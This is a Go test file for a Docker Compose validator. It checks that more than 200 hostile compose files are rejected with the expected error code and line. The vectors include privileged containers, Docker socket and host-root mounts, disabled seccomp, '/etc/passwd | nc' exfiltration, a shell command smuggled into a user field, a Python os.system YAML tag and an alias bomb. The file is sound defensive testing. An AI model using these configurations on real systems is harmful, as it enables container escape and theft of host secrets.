package compose_test

import (
	"fmt"
	"strings"
	"testing"

	"pandu/modules/spec/compose"
)

type vector struct {
	name string
	file string
	code string
	line int
}

// in puts lines into a service; the first of them is line 4 of the file.
func in(lines ...string) string {
	return "services:\n  web:\n    image: nginx\n    " + strings.Join(lines, "\n    ") + "\n"
}

// built is in for a service that is built; the first line is line 4.
func built(lines ...string) string {
	return "services:\n  web:\n    build:\n      " + strings.Join(lines, "\n      ") + "\n"
}

// top puts lines after a good service; the first of them is line 4.
func top(lines ...string) string {
	return "services:\n  web:\n    image: nginx\n" + strings.Join(lines, "\n") + "\n"
}

// volume mounts v and declares it; the mount is line 5.
func volume(lines ...string) string {
	return in("volumes:", "  - "+strings.Join(lines, "\n        ")) + "volumes:\n  data:\n"
}

func bomb() string {
	var b strings.Builder
	b.WriteString("x-a: &a0 [x, x, x, x, x, x, x, x, x, x]\n")
	for i := 1; i < 10; i++ {
		fmt.Fprintf(&b, "x-a%d: &a%d [*a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d, *a%d]\n", i, i, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1, i-1)
	}
	return b.String() + "services:\n  web:\n    image: nginx\n"
}

func services(n int) string {
	var b strings.Builder
	b.WriteString("services:\n")
	for i := range n {
		fmt.Fprintf(&b, "  s%d:\n    image: nginx\n", i)
	}
	return b.String()
}

func declaredVolumes(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "v%d: {}, ", i)
	}
	return b.String()
}

func vectors() []vector {
	list := []vector{
		// What would give a container the server.
		{"privileged", in("privileged: true"), "forbidden", 4},
		{"privileged, quoted", in(`privileged: "true"`), "forbidden", 4},
		{"privileged, by a word", in("privileged: yes"), "forbidden", 4},
		{"privileged, by a variable", in("privileged: ${P:-true}"), "forbidden", 4},
		{"capabilities", in("cap_add: [SYS_ADMIN]"), "forbidden", 4},
		{"all capabilities", in("cap_add:", "  - ALL"), "forbidden", 4},
		{"devices", in("devices: ['/dev/sda:/dev/sda']"), "forbidden", 4},
		{"device rules", in("device_cgroup_rules: ['c 1:3 mr']"), "forbidden", 4},
		{"gpus", in("gpus: all"), "forbidden", 4},
		{"runtime", in("runtime: nvidia"), "forbidden", 4},
		{"pid host", in("pid: host"), "forbidden", 4},
		{"pid of a container", in("pid: container:x"), "forbidden", 4},
		{"pid of a service", in("pid: service:db"), "forbidden", 4},
		{"ipc host", in("ipc: host"), "forbidden", 4},
		{"ipc shareable", in("ipc: shareable"), "forbidden", 4},
		{"uts host", in("uts: host"), "forbidden", 4},
		{"userns host", in("userns_mode: host"), "forbidden", 4},
		{"cgroup host", in("cgroup: host"), "forbidden", 4},
		{"cgroup parent", in("cgroup_parent: /"), "forbidden", 4},
		{"network host", in("network_mode: host"), "forbidden", 4},
		{"network of a container", in("network_mode: container:x"), "forbidden", 4},
		{"network of a service", in("network_mode: service:web"), "forbidden", 4},
		{"no network", in("network_mode: none"), "forbidden", 4},
		{"seccomp off", in("security_opt: ['seccomp:unconfined']"), "forbidden", 4},
		{"AppArmor off", in("security_opt:", "  - apparmor=unconfined"), "forbidden", 4},
		{"labels off", in("security_opt: ['label:disable']"), "forbidden", 4},
		{"new privileges", in("security_opt: ['no-new-privileges:false']"), "forbidden", 4},
		{"one good option beside a bad one", in("security_opt: ['no-new-privileges:true', 'seccomp:unconfined']"), "forbidden", 4},
		{"sysctls", in("sysctls: {net.ipv4.ip_forward: 1}"), "forbidden", 4},
		{"oom_kill_disable", in("oom_kill_disable: true"), "forbidden", 4},
		{"oom_score_adj", in("oom_score_adj: -1000"), "forbidden", 4},
		{"volumes_from", in("volumes_from: ['container:x']"), "forbidden", 4},
		{"API socket", in("use_api_socket: true"), "forbidden", 4},
		{"provider", in("provider: {type: /bin/sh}"), "forbidden", 4},
		{"credential_spec", in("credential_spec: {file: x}"), "forbidden", 4},
		{"isolation", in("isolation: process"), "forbidden", 4},
		{"storage_opt", in("storage_opt: {size: 1T}"), "forbidden", 4},
		{"blkio", in("blkio_config: {weight: 1000}"), "forbidden", 4},
		{"group docker", in("group_add: [docker]"), "forbidden", 4},
		{"external links", in("external_links: [other]"), "forbidden", 4},
		{"mac address", in("mac_address: 02:42:ac:11:00:02"), "forbidden", 4},
		{"annotations", in("annotations: {io.x: y}"), "forbidden", 4},
		{"volume driver", in("volume_driver: nfs"), "forbidden", 4},
		// Mounts.
		{"socket", volume("/var/run/docker.sock:/var/run/docker.sock"), "forbidden", 5},
		{"socket, read only", volume("/run/docker.sock:/x:ro"), "forbidden", 5},
		{"socket, long", volume("type: bind", "source: /var/run/docker.sock", "target: /x"), "forbidden", 5},
		{"socket of containerd", volume("/run/containerd/containerd.sock:/x"), "forbidden", 5},
		{"root of the host", volume("/:/host"), "bind_mount", 5},
		{"proc", volume("/proc:/host/proc"), "bind_mount", 5},
		{"sys", volume("/sys:/sys"), "bind_mount", 5},
		{"Docker's data", volume("/var/lib/docker:/d"), "bind_mount", 5},
		{"here", volume(".:/app"), "bind_mount", 5},
		{"beside", volume("./src:/app"), "bind_mount", 5},
		{"above", volume("../:/app"), "bind_mount", 5},
		{"home", volume("~/.ssh:/ssh"), "bind_mount", 5},
		{"home alone", volume("~:/ssh"), "bind_mount", 5},
		{"nested relative", volume("a/b:/app"), "bind_mount", 5},
		{"Windows drive", volume(`C:\data:/app`), "bind_mount", 5},
		{"Windows drive, slashes", volume("c:/data:/app"), "bind_mount", 5},
		{"UNC", volume(`\\server\share:/app`), "bind_mount", 5},
		{"bind, long", volume("type: bind", "source: /etc", "target: /x"), "bind_mount", 5},
		{"named pipe", volume("type: npipe", `source: \\.\pipe\docker_engine`, "target: /x"), "bind_mount", 5},
		{"volume that is a path", volume("type: volume", "source: /etc", "target: /x"), "bind_mount", 5},
		{"by a default", volume("${D:-/etc}:/x"), "bind_mount", 5},
		{"cluster", volume("type: cluster", "source: data", "target: /x"), "forbidden", 5},
		{"image", volume("type: image", "source: nginx", "target: /x"), "forbidden", 5},
		{"no type", volume("source: data", "target: /x"), "forbidden", 5},
		{"tmpfs mount", volume("type: tmpfs", "target: /x"), "unsupported", 5},
		{"anonymous", volume("/data"), "anonymous_volume", 5},
		{"anonymous, long", volume("type: volume", "target: /x"), "anonymous_volume", 5},
		{"undeclared", volume("other:/x"), "volume_undeclared", 5},
		{"undeclared, long", volume("type: volume", "source: other", "target: /x"), "volume_undeclared", 5},
		{"over the kernel", volume("data:/proc/x"), "mount_path", 5},
		{"over the root", volume("data:/"), "mount_path", 5},
		{"relative target", volume("data:x"), "mount_path", 5},
		{"target with dots", volume("data:/a/../proc"), "mount_path", 5},
		{"SELinux label", volume("data:/x:z"), "unsupported", 5},
		{"propagation", volume("data:/x:rshared"), "unsupported", 5},
		{"too many parts", volume("data:/x:ro:y"), "invalid_value", 5},
		{"subpath", volume("type: volume", "source: data", "target: /x", "volume: {subpath: ../x}"), "unsupported", 8},
		{"tmpfs", in("tmpfs: /run:size=100g"), "unsupported", 4},
		{"volume options", top("volumes:", "  data:", "    driver_opts: {type: none, o: bind, device: /etc}"), "forbidden", 6},
		{"NFS volume", top("volumes:", "  data:", "    driver: local", "    driver_opts:", "      type: nfs"), "forbidden", 7},
		{"volume plugin", top("volumes:", "  data: {driver: rclone}"), "forbidden", 5},
		{"external volume", top("volumes:", "  data:", "    external: true"), "forbidden", 6},
		{"external volume, old form", top("volumes:", "  data:", "    external: {name: other}"), "forbidden", 6},
		{"volume name", top("volumes:", "  '../x': {}"), "volume_name", 5},
		{"volume key", top("volumes:", "  data: {drivr: local}"), "unknown_key", 5},
		// Networks.
		{"external network", top("networks:", "  n: {external: true}"), "forbidden", 5},
		{"host network", top("networks:", "  n:", "    driver: host"), "forbidden", 6},
		{"macvlan", top("networks:", "  n:", "    driver: macvlan"), "forbidden", 6},
		{"network options", top("networks:", "  n:", "    driver_opts: {com.docker.network.bridge.name: docker0}"), "forbidden", 6},
		{"subnet", top("networks:", "  n:", "    ipam: {config: [{subnet: 172.17.0.0/16}]}"), "unsupported", 6},
		{"internal network", top("networks:", "  n: {internal: true}"), "unsupported", 5},
		{"fixed address", in("networks:", "  default:", "    ipv4_address: 172.17.0.1"), "unsupported", 6},
		{"aliases", in("networks:", "  default:", "    aliases: [panel]"), "unsupported", 6},
		{"MAC in a network", in("networks:", "  default:", "    mac_address: 02:42:ac:11:00:02"), "forbidden", 6},
		{"network not declared", in("networks: [other]"), "network_undeclared", 4},
		{"dns", in("dns: 10.0.0.1"), "unsupported", 4},
		{"dns_search", in("dns_search: internal"), "unsupported", 4},
		{"host gateway", in("extra_hosts: ['host.docker.internal:host-gateway']"), "unsupported", 4},
		{"links", in("links: [db]"), "unsupported", 4},
		{"domainname", in("domainname: panel"), "unsupported", 4},
		// Files.
		{"env_file", in("env_file: .env"), "unsupported", 4},
		{"env_file outside", in("env_file: [/etc/passwd]"), "unsupported", 4},
		{"label_file", in("label_file: /etc/passwd"), "unsupported", 4},
		{"extends", in("extends: {file: ../x.yaml, service: a}"), "unsupported", 4},
		{"include", "include: [../x.yaml]\nservices:\n  web:\n    image: nginx\n", "unsupported", 1},
		{"include remote", "include:\n  - oci://example.com/x\nservices:\n  web:\n    image: nginx\n", "unsupported", 1},
		{"secrets", in("secrets: [s]"), "unsupported", 4},
		{"configs", in("configs: [c]"), "unsupported", 4},
		{"secret from a file", top("secrets:", "  s: {file: /etc/shadow}"), "unsupported", 4},
		{"config from a file", top("configs:", "  s: {file: /etc/shadow}"), "unsupported", 4},
		{"external secret", top("secrets:", "  s: {external: true}"), "unsupported", 4},
		{"models", top("models:", "  m: {model: x}"), "unsupported", 4},
		{"models of a service", in("models: [m]"), "unsupported", 4},
		{"jobs", top("jobs:", "  j: {image: x}"), "unsupported", 4},
		{"hook", in("post_start:", "  - {command: sh, privileged: true}"), "unsupported", 4},
		{"stop hook", in("pre_stop: [{command: sh}]"), "unsupported", 4},
		// Builds.
		{"context above", built("context: .."), "context_outside", 4},
		{"context far above", built("context: a/../../x"), "context_outside", 4},
		{"context absolute", built("context: /etc"), "context_outside", 4},
		{"context URL", built("context: https://github.com/a/b.git"), "context_outside", 4},
		{"context git", built("context: git@github.com:a/b.git"), "context_outside", 4},
		{"context github", built("context: github.com/a/b"), "context_outside", 4},
		{"context home", built("context: ~/x"), "context_outside", 4},
		{"context short", "services:\n  web:\n    build: ../\n", "context_outside", 3},
		{"context missing", built("context: nowhere"), "context_missing", 4},
		{"Dockerfile above", built("dockerfile: ../Dockerfile"), "context_outside", 4},
		{"Dockerfile absolute", built("dockerfile: /etc/passwd"), "context_outside", 4},
		{"Dockerfile of another folder", built("context: app", "dockerfile: ../Dockerfile"), "context_outside", 5},
		{"Dockerfile missing", built("dockerfile: Dockerfile.nope"), "dockerfile_missing", 4},
		{"contexts", built("additional_contexts: {x: /etc}"), "forbidden", 4},
		{"inline", built("dockerfile_inline: FROM scratch"), "unsupported", 4},
		{"build network", built("network: host"), "forbidden", 4},
		{"build privileged", built("privileged: true"), "forbidden", 4},
		{"build entitlements", built("entitlements: [security.insecure]"), "forbidden", 4},
		{"build ssh", built("ssh: [default]"), "forbidden", 4},
		{"build secrets", built("secrets: [s]"), "unsupported", 4},
		{"build cache_to", built("cache_to: ['type=local,dest=/etc']"), "forbidden", 4},
		{"build extra_hosts", built("extra_hosts: ['a:1.2.3.4']"), "forbidden", 4},
		{"build isolation", built("isolation: hyperv"), "forbidden", 4},
		{"build ulimits", built("ulimits: {nofile: 1}"), "unsupported", 4},
		{"build argument from outside", built("args: [TOKEN]"), "variable_outside_environment", 4},
		{"build argument by reference", built("args:", "  TOKEN: ${TOKEN}"), "variable_outside_environment", 5},
		{"build key", built("contxt: ."), "unknown_key", 4},
		// Limits.
		{"ulimits", in("ulimits: {nofile: 1000000}"), "unsupported", 4},
		{"shm_size", in("shm_size: 64g"), "unsupported", 4},
		{"memory beyond sense", in("mem_limit: 5000000g"), "policy", 4},
		{"hardly any memory", in("mem_limit: 1k"), "policy", 4},
		{"negative memory", in("mem_limit: -1"), "policy", 4},
		{"processors beyond sense", in("cpus: 100000"), "policy", 4},
		{"pids unlimited", in("pids_limit: -1"), "policy", 4},
		{"pids beyond sense", in("deploy:", "  resources:", "    limits: {pids: 10000000}"), "policy", 6},
		{"memory of deploy", in("deploy:", "  resources:", "    limits:", "      memory: 4096g"), "policy", 7},
		{"swap", in("memswap_limit: -1"), "unsupported", 4},
		{"cpu_shares", in("cpu_shares: 100000"), "unsupported", 4},
		{"real time", in("cpu_rt_runtime: 950000"), "unsupported", 4},
		{"cpuset", in("cpuset: 0-1"), "unsupported", 4},
		{"GPU by deploy", in("deploy:", "  resources:", "    reservations:", "      devices: [{capabilities: [gpu]}]"), "forbidden", 7},
		{"generic resources", in("deploy: {resources: {limits: {generic_resources: []}}}"), "forbidden", 4},
		{"replicas", in("deploy:", "  replicas: 1000000"), "replicas", 5},
		{"replicas below zero", in("deploy:", "  replicas: -1"), "invalid_value", 5},
		{"scale", in("scale: 101"), "replicas", 4},
		{"global", in("deploy:", "  mode: global"), "unsupported", 5},
		{"placement", in("deploy:", "  placement: {constraints: [node.role==manager]}"), "unsupported", 5},
		{"two writers", volume("data:/x") + "", "", 0}, // replaced below
		{"check too often", in("healthcheck:", "  test: 'true'", "  interval: 1ms"), "invalid_value", 6},
		{"check for ever", in("healthcheck:", "  test: 'true'", "  timeout: 9000h"), "policy", 4},
		{"check without a test", in("healthcheck:", "  interval: 5s"), "unsupported", 4},
		{"check of a strange form", in("healthcheck:", "  test: [curl, localhost]"), "invalid_value", 5},
		{"check by a variable", in("healthcheck:", "  test: pg_isready -U ${POSTGRES_USER}"), "variable_outside_environment", 5},
		{"grace for ever", in("stop_grace_period: 9000h"), "policy", 4},
		{"too many services", services(51), "too_many_services", 2},
		// Ports and logs.
		{"range", in("ports: ['8000-9000:8000-9000']"), "port", 4},
		{"port 0", in("ports: ['80:0']"), "port", 4},
		{"port too high", in("ports:", "  - 70000"), "port", 5},
		{"no port", in("ports: ['http']"), "port", 4},
		{"sctp", in("ports: ['80:80/sctp']"), "port", 4},
		{"port by a variable", in("ports:", "  - '${PORT}:80'"), "variable_outside_environment", 5},
		{"long port", in("ports:", "  - {target: 0}"), "port", 5},
		{"expose range", in("expose: ['1-65535']"), "port", 4},
		{"syslog", in("logging:", "  driver: syslog", "  options: {syslog-address: 'udp://10.0.0.1:514'}"), "forbidden", 5},
		{"fluentd", in("logging: {driver: fluentd}"), "forbidden", 4},
		{"log_driver", in("log_driver: gelf"), "unsupported", 4},
		// Images.
		{"image on loopback", top("  db:", "    image: 127.0.0.1:5000/other/secret"), "image_registry", 5},
		{"image on localhost", top("  db:", "    image: localhost:5000/x"), "image_registry", 5},
		{"image on an address", top("  db:", "    image: 10.0.0.1/x"), "image_registry", 5},
		{"image on IPv6", top("  db:", "    image: '[::1]:5000/x'"), "image_registry", 5},
		{"image on a short name", top("  db:", "    image: registry:5000/x"), "image_registry", 5},
		{"image on an internal name", top("  db:", "    image: registry.internal/x"), "image_registry", 5},
		{"image on a number", top("  db:", "    image: 127.1:5000/x"), "image_registry", 5},
		{"image with capitals", top("  db:", "    image: Nginx"), "image_reference", 5},
		{"image with spaces", top("  db:", "    image: 'nginx --privileged'"), "image_reference", 5},
		{"image with a bad digest", top("  db:", "    image: nginx@sha256:zz"), "image_reference", 5},
		{"image by a variable", top("  db:", "    image: nginx:${TAG}"), "variable_outside_environment", 5},
		{"image is a list", top("  db:", "    image: [nginx]"), "invalid_value", 5},
		{"neither image nor build", top("  db:", "    command: x"), "no_image", 4},
		// Variables.
		{"a secret of the panel in a command", in("command: echo ${PANDU_MASTER_KEY}"), "variable_outside_environment", 4},
		{"a variable in the user", in("user: ${USER}"), "variable_outside_environment", 4},
		{"broken reference", in("environment:", "  A: ${"), "variable_reference", 5},
		{"broken reference in a list", in("environment:", "  - A=$ B"), "variable_reference", 5},
		{"broken reference elsewhere", in("working_dir: /$"), "variable_reference", 4},
		{"demand elsewhere", in("command: ${A:?must}"), "variable_outside_environment", 4},
		{"reserved variable", in("environment:", "  PANDU_TOKEN: x"), "variable_reserved", 5},
		{"variable name", in("environment:", "  'A B': x"), "variable_name", 5},
		{"empty variable name", in("environment:", "  - =x"), "variable_name", 5},
		{"variable of no name passed through", in("environment:", "  - a.b"), "variable_name", 5},
		{"environment of lists", in("environment:", "  A: [1]"), "invalid_value", 5},
		{"environment is text", in("environment: A=1"), "invalid_value", 4},
		// Process.
		{"user with a shell", in("user: 'root; id'"), "policy", 4},
		{"relative working_dir", in("working_dir: ../x"), "policy", 4},
		{"signal", in("stop_signal: SIGFOO9"), "policy", 4},
		{"restart rule", in("restart: sometimes"), "invalid_value", 4},
		{"command with a pipe", in("command: cat /etc/passwd | nc x 1"), "command_shell", 4},
		{"command with two", in("command: migrate && serve"), "command_shell", 4},
		{"command with an open quote", in(`command: echo "x`), "invalid_value", 4},
		{"command of numbers", in("command: [sleep, 1]"), "invalid_value", 4},
		{"command is a mapping", in("command: {a: b}"), "invalid_value", 4},
		{"empty entrypoint", in("entrypoint: ''"), "unsupported", 4},
		{"empty entrypoint list", in("entrypoint: []"), "unsupported", 4},
		{"NUL in a command", in(`command: ["a\0b"]`), "value_characters", 4},
		{"umask", in("umask: 0"), "unsupported", 4},
		{"platform", in("platform: windows/amd64"), "unsupported", 4},
		// Dependencies, names, x-pandu.
		{"dependency on nothing", in("depends_on: [db]"), "dependency_missing", 4},
		{"dependency on itself", in("depends_on: [web]"), "dependency_cycle", 4},
		{"circle", "services:\n  a:\n    image: x\n    depends_on: [b]\n  b:\n    image: x\n    depends_on: [a]\n", "dependency_cycle", 7},
		{"condition", in("depends_on:", "  web: {condition: service_happy}"), "invalid_value", 5},
		{"healthy task", "services:\n  a:\n    image: x\n    depends_on: {t: {condition: service_completed_successfully}}\n  b:\n    image: x\n    depends_on: {t: {condition: service_healthy}}\n  t:\n    image: x\n", "task", 7},
		{"task with replicas", "services:\n  a:\n    image: x\n    depends_on: {t: {condition: service_completed_successfully}}\n  t:\n    image: x\n    deploy:\n      replicas: 2\n", "task", 8},
		{"public task", "services:\n  a:\n    image: x\n    depends_on: {t: {condition: service_completed_successfully}}\n  t:\n    image: x\n    x-pandu: {public: true}\n", "task", 7},
		{"service name", "services:\n  Web:\n    image: x\n", "service_name", 2},
		{"service name with a path", "services:\n  ../web:\n    image: x\n", "service_name", 2},
		{"service name too long", "services:\n  " + strings.Repeat("a", 41) + ":\n    image: x\n", "service_name", 2},
		{"x-pandu key", in("x-pandu: {pubic: true}"), "unknown_key", 4},
		{"x-pandu at the top", top("x-pandu: {public: web}"), "unsupported", 4},
		{"x-pandu text", in("x-pandu:", "  public: 'yes'"), "invalid_value", 5},
		{"x-pandu port", in("x-pandu:", "  port: 99999"), "invalid_value", 5},
		{"only profiles", in("profiles: [dev]"), "compose_empty", 0},
		{"dependency on a profile", top("    depends_on: [db]", "  db:", "    image: x", "    profiles: [dev]"), "dependency_missing", 4},
		// Unknown keys.
		{"unknown", in("nonsense_here: 1"), "unknown_key", 4},
		{"typo", in("enviroment: {A: 1}"), "unknown_key", 4},
		{"typo of the worst", in("priviledged: true"), "unknown_key", 4},
		{"unknown at the top", top("volume:", "  x: {}"), "unknown_key", 4},
		{"unknown in deploy", in("deploy:", "  replica: 2"), "unknown_key", 5},
		{"unknown in healthcheck", in("healthcheck:", "  test: 'true'", "  intervall: 5s"), "unknown_key", 6},
		// YAML.
		{"alias bomb", bomb(), "compose_complex", 1},
		{"deep", "x-a: " + strings.Repeat("[", 40) + strings.Repeat("]", 40) + "\nservices: {}\n", "compose_complex", 1},
		{"alias of itself", "x-a: &a [*a]\nservices:\n  web:\n    image: nginx\n", "compose_complex", 1},
		{"hidden by a merge", "x-a: &a\n  privileged: true\nservices:\n  web:\n    <<: *a\n    image: nginx\n", "forbidden", 2},
		{"hidden by a list of merges", "x-a: &a {pid: host}\nservices:\n  web:\n    <<: [*a]\n    image: nginx\n", "forbidden", 1},
		{"hidden by an alias", "x-a: &a ['/:/host']\nservices:\n  web:\n    image: nginx\n    volumes: *a\n", "bind_mount", 1},
		{"merge of text", "services:\n  web:\n    <<: x\n    image: nginx\n", "invalid_value", 3},
		{"key twice", in("image: evil"), "duplicate_key", 4},
		{"service twice", top("  web:", "    image: evil"), "duplicate_key", 4},
		{"tag", in("user: !custom x"), "custom_tag", 4},
		{"tag of Python", in("user: !!python/object/apply:os.system ['id']"), "custom_tag", 4},
		{"reset", in("ports: !reset []"), "custom_tag", 4},
		{"override", in("ports: !override ['80']"), "custom_tag", 4},
		{"binary", in("user: !!binary cm9vdA=="), "custom_tag", 4},
		{"two documents", in("user: x") + "---\nservices: {}\n", "compose_documents", 5},
		{"key that is a list", "services:\n  ? [a]\n  : x\n", "key_form", 2},
		{"not YAML", "services:\n  web: [\n", "compose_syntax", 2},
		{"tabs", "services:\n\tweb:\n", "compose_syntax", 2},
		{"long value", in("user: " + strings.Repeat("x", 65<<10)), "value_long", 4},
		{"too big", "#" + strings.Repeat("x", compose.MaxSize), "compose_size", 0},
		{"not UTF-8", "services:\n  web:\n    image: \xff\n", "compose_encoding", 0},
		{"UTF-16", "\xff\xfes\x00", "compose_encoding", 0},
		{"empty", "", "compose_empty", 0},
		{"only a comment", "# nothing\n", "compose_empty", 0},
		{"no services", "volumes: {}\n", "compose_empty", 1},
		{"empty services", "services: {}\n", "compose_empty", 1},
		{"text", "hello\n", "invalid_value", 1},
		{"list", "- a\n", "invalid_value", 1},
		{"services is a list", "services:\n  - web\n", "compose_empty", 1},
		{"service is text", "services:\n  web: nginx\n", "invalid_value", 2},
		{"user is a list", in("user: [a]"), "invalid_value", 4},
		{"user is a mapping", in("user: {a: b}"), "invalid_value", 4},
		{"too many arguments", in("command: [" + strings.Repeat("a, ", 256) + "a]"), "invalid_value", 4},
		{"volumes is text", in("volumes: data:/x"), "invalid_value", 4},
		{"volumes is a mapping", in("volumes: {data: /x}"), "invalid_value", 4},
		{"volume is a list", in("volumes: [[data]]"), "invalid_value", 4},
		{"too many volumes mounted", in("volumes: [" + strings.Repeat("'data:/x', ", 33) + "]"), "invalid_value", 4},
		{"volume name of a mount", in("volumes: ['a b:/x']"), "volume_name", 4},
		{"expose is text", in("expose: 80"), "invalid_value", 4},
		{"too many exposed", in("expose: [" + strings.Repeat("80, ", 33) + "]"), "port", 4},
		{"port is a list", in("ports: [[80]]"), "invalid_value", 4},
		{"too many ports", in("ports: [" + strings.Repeat("80, ", 33) + "]"), "port", 4},
		{"networks is text", in("networks: a"), "invalid_value", 4},
		{"depends_on is text", in("depends_on: db"), "invalid_value", 4},
		{"profiles is text", in("profiles: dev"), "invalid_value", 4},
		{"build is a list", "services:\n  web:\n    build: [.]\n", "invalid_value", 3},
		{"empty check", in("healthcheck:", "  test: []"), "invalid_value", 5},
		{"declared volumes are a list", top("volumes: [data]"), "invalid_value", 4},
		{"declared networks are text", top("networks: n"), "invalid_value", 4},
		{"too many volumes declared", top("volumes: {" + declaredVolumes(51) + "}"), "too_many_volumes", 4},
		{"backslash at the end", in(`command: echo \`), "invalid_value", 4},
		{"environment of a list in a list", in("environment:", "  - [A]"), "invalid_value", 5},
		{"alias as a key", "x-a: &a privileged\nservices:\n  web:\n    image: nginx\n    *a : true\n", "forbidden", 5},
		{"ports is text", in("ports: 80"), "invalid_value", 4},
		{"read_only is text", in("read_only: maybe"), "invalid_value", 4},
	}
	for i, v := range list {
		if v.name == "two writers" {
			list[i] = vector{v.name, in("deploy:", "  replicas: 2", "volumes: ['data:/x']") + "volumes:\n  data:\n", "replicas_with_volume", 5}
		}
	}
	return list
}

func exists(path string) bool {
	return map[string]bool{".": true, "app": true, "Dockerfile": true, "app/Dockerfile": true}[path]
}

func parse(file string) ([]compose.Problem, error) {
	_, problems := compose.Parse(compose.Input{Name: "compose.yaml", Data: []byte(file), Exists: exists})
	return problems, compose.Fault(problems)
}

// TestHostile: each file is refused with its code at its line, and the message is fit for a person.
func TestHostile(t *testing.T) {
	list := vectors()
	if len(list) < 200 {
		t.Fatalf("only %d vectors", len(list))
	}
	for _, v := range list {
		t.Run(v.name, func(t *testing.T) {
			problems, err := parse(v.file)
			if len(problems) == 0 || err == nil {
				t.Fatal("accepted")
			}
			for _, p := range problems {
				if p.Code == v.code && p.Line == v.line {
					if len(p.Message) > 600 || strings.Trim(p.Message[len(p.Message)-1:], ".?") != "" || p.File != "compose.yaml" {
						t.Errorf("message %q", p.Message)
					}
					return
				}
			}
			t.Errorf("got %+v, want %s at line %d", problems, v.code, v.line)
		})
	}
}

func TestSuggestion(t *testing.T) {
	for file, want := range map[string]string{
		in("enviroment: {A: 1}"):  "Did you mean environment?",
		in("priviledged: true"):   "Did you mean privileged?",
		in("mem-limit: 1g"):       "Did you mean mem_limit?",
		top("volume: {}"):         "Did you mean volumes?",
		in("zzzz: 1"):             "is not known.",
		in("depends_on: [web]"):   "web → web",
		in("command: echo ${A}"):  "$${A}",
		volume("./src:/app"):      "COPY in the Dockerfile",
		in("env_file: .env"):      "under environment",
		in("command: a && b"):     `["sh", "-c", "…"]`,
		in("network_mode: host"):  "remove the key",
		in("links: [db]"):         "by their names",
		in("ports: ['1-9:1-9']"):  "List each port",
		volume("other:/x"):        "Add it under volumes",
		in("healthcheck: {a: 1}"): "is not known.",
	} {
		if problems, _ := parse(file); len(problems) == 0 || !strings.Contains(problems[0].Message, want) {
			t.Errorf("%s: %v does not say %q", file, problems, want)
		}
	}
}
